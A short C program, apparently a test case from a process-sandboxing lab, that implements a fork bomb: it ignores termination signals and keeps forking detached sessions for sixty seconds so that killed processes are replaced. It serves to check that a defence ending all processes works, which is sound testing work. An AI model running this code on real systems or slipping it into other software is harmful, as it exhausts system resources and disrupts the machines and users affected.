// Attack:  a fork bomb; as soon as one is killed there is another
// Lab:     fork
// Defence: processes-end
// Without: survivor
#include <signal.h>
#include <time.h>
#include <unistd.h>

int main(void) {
  const time_t end = time(NULL) + 60;
  signal(SIGTERM, SIG_IGN);
  signal(SIGCHLD, SIG_IGN);
  if (fork() > 0) {
    usleep(100000);  // sleep: what it does
    return 1;
  }
  while (time(NULL) < end) {
    if (fork() == 0) setsid();
  }
}
